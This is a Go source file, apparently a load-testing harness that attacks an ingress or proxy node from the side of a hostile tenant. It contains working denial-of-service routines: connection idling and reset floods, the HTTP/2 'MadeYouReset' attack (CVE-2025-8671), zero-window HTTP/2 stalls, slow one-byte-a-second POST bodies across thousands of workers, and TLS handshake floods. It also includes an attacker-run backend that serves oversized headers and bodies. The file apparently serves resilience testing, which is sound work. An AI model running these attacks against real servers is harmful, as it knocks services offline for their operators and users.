package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// crowd runs f count times at once until ctx is done. f may return at any time, and is called again a moment later.
func crowd(ctx context.Context, count int, f func(ctx context.Context)) error {
	var wg sync.WaitGroup
	for range count {
		wg.Go(func() {
			for ctx.Err() == nil {
				f(ctx)
				wait(ctx, time.Millisecond)
			}
		})
	}
	wg.Wait()
	return nil
}

// dial connects to the attacked node. The connection is closed when ctx is done.
func dial(ctx context.Context, port string) (net.Conn, error) {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", net.JoinHostPort(nodeAddr, port))
	if err == nil {
		context.AfterFunc(ctx, func() { c.Close() })
	}
	return c, err
}

const request = "GET / HTTP/1.1\r\nHost: " + victimHost + "\r\n\r\n"

// idle keeps connections after one answered request: PORT COUNT.
func idle(ctx context.Context, args []string, times *atomic.Int64) error {
	count, err := strconv.Atoi(args[1])
	if err != nil {
		return err
	}
	var wg sync.WaitGroup
	each := make(chan struct{}, 64) // that many dials at once
	for range count {
		each <- struct{}{}
		if ctx.Err() != nil {
			break
		}
		wg.Go(func() {
			c, err := dial(ctx, args[0])
			if err == nil {
				_, _ = io.WriteString(c, request)
				if _, err = c.Read(make([]byte, 1)); err == nil {
					times.Add(1)
				}
			}
			<-each
			<-ctx.Done()
		})
	}
	wg.Wait()
	return nil
}

// resets asks and resets the connection at once: PORT.
func resets(ctx context.Context, args []string, times *atomic.Int64) error {
	return crowd(ctx, 16, func(ctx context.Context) {
		c, err := dial(ctx, args[0])
		if err != nil {
			return
		}
		_, _ = io.WriteString(c, request)
		_ = c.(*net.TCPConn).SetLinger(0)
		c.Close()
		times.Add(1)
	})
}

// h2 is an HTTP/2 connection of an attacker.
type h2 struct {
	*http2.Framer
	block bytes.Buffer
	enc   *hpack.Encoder
	next  uint32
}

func dialH2(ctx context.Context, port string, settings ...http2.Setting) (*h2, error) {
	c, err := dial(ctx, port)
	if err != nil {
		return nil, err
	}
	h := &h2{Framer: http2.NewFramer(c, c), next: 1}
	h.enc = hpack.NewEncoder(&h.block)
	h.AllowIllegalWrites = true
	go func() { _, _ = io.Copy(io.Discard, c) }()
	_, err = io.WriteString(c, http2.ClientPreface)
	return h, errors.Join(err, h.WriteSettings(settings...), h.WriteSettingsAck())
}

func (h *h2) get(host, path string) (stream uint32, err error) {
	h.block.Reset()
	for _, f := range [...][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", host}, {":path", path}} {
		_ = h.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	stream = h.next
	h.next += 2
	return stream, h.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: h.block.Bytes(), EndHeaders: true, EndStream: true})
}

// madeYouReset has the server reset every stream, by breaking the protocol on it (CVE-2025-8671): PORT.
func madeYouReset(ctx context.Context, args []string, times *atomic.Int64) error {
	return crowd(ctx, 2, func(ctx context.Context) {
		h, err := dialH2(ctx, args[0])
		for err == nil && ctx.Err() == nil {
			var stream uint32
			if stream, err = h.get(victimHost, "/"); err == nil {
				err = h.WriteWindowUpdate(stream, 0)
				times.Add(1)
			}
		}
	})
}

// unread asks the attacker's own backend for a large header, and reads nothing.
func unread(ctx context.Context, _ []string, times *atomic.Int64) error {
	return crowd(ctx, 100, func(ctx context.Context) {
		c, err := dial(ctx, ingressPort)
		if err != nil {
			return
		}
		_, _ = io.WriteString(c, strings.Replace(strings.Replace(request, victimHost, attackerHost, 1), "/", "/large-header", 1))
		times.Add(1)
		<-ctx.Done()
	})
}

// windowZero asks for large responses, and lets the server send none of them.
func windowZero(ctx context.Context, _ []string, times *atomic.Int64) error {
	return crowd(ctx, 10, func(ctx context.Context) {
		h, err := dialH2(ctx, ingressPort, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		for range 250 {
			if err == nil {
				_, err = h.get(attackerHost, "/large")
				times.Add(1)
			}
		}
		if err == nil {
			<-ctx.Done()
		}
	})
}

// slowBodies sends bodies at one byte a second: PORT.
func slowBodies(ctx context.Context, args []string, times *atomic.Int64) error {
	return crowd(ctx, 8000, func(ctx context.Context) {
		c, err := dial(ctx, args[0])
		if err != nil {
			return
		}
		defer c.Close()
		_, err = io.WriteString(c, "POST / HTTP/1.1\r\nHost: "+attackerHost+"\r\nContent-Length: 1000000\r\n\r\n")
		times.Add(1)
		for err == nil && ctx.Err() == nil {
			_, err = c.Write([]byte{'x'})
			wait(ctx, time.Second)
		}
	})
}

// handshakes only shakes hands, with the attacker's own certificate.
func handshakes(ctx context.Context, _ []string, times *atomic.Int64) error {
	return crowd(ctx, 16, func(ctx context.Context) {
		c, err := dial(ctx, ingressTLSPort)
		if err != nil {
			return
		}
		t := tls.Client(c, &tls.Config{ServerName: attackerHost, InsecureSkipVerify: true})
		if t.HandshakeContext(ctx) == nil {
			times.Add(1)
		}
		c.Close()
	})
}

// once sends one datagram, opens one connection or makes one request, and waits: NETWORK ADDR, NETWORK being "udp",
// "tcp" or "http".
func once(ctx context.Context, args []string, times *atomic.Int64) error {
	network := strings.Replace(args[0], "http", "tcp", 1)
	if c, err := new(net.Dialer).DialContext(ctx, network, args[1]); err == nil { // a refusal is as good as any answer
		defer c.Close()
		_, _ = io.WriteString(c, strings.Replace(request, victimHost, roundHost, 1))
		times.Add(1)
	}
	<-ctx.Done()
	return nil
}

// backend is a tenant's own server, which is on the attackers' side, and what they ask in the agent's place: PORT. It
// drops datagrams.
func backend(ctx context.Context, args []string) error {
	mux := http.NewServeMux()
	mux.HandleFunc("/large-header", func(w http.ResponseWriter, _ *http.Request) {
		line := strings.Repeat("x", 95_000)
		for i := range 100 {
			w.Header().Set("X-Line-"+strconv.Itoa(i), line)
		}
	})
	mux.HandleFunc("/large", func(w http.ResponseWriter, _ *http.Request) {
		chunk := make([]byte, 64<<10)
		for range 256 {
			if _, err := w.Write(chunk); err != nil {
				return
			}
		}
	})
	mux.HandleFunc("/", func(_ http.ResponseWriter, r *http.Request) { _, _ = io.Copy(io.Discard, r.Body) })
	protocols := new(http.Protocols)
	protocols.SetHTTP1(true)
	protocols.SetUnencryptedHTTP2(true)
	server := &http.Server{Addr: ":" + args[0], Handler: mux, Protocols: protocols}
	defer context.AfterFunc(ctx, func() { server.Close() })()
	datagrams, err := net.ListenPacket("udp", server.Addr)
	if err != nil {
		return err
	}
	defer datagrams.Close()
	go func() {
		for b := make([]byte, 2048); ; {
			if _, _, err := datagrams.ReadFrom(b); err != nil {
				return
			}
		}
	}()
	if err := server.ListenAndServe(); !errors.Is(err, http.ErrServerClosed) {
		return err
	}
	fmt.Println("null")
	return nil
}
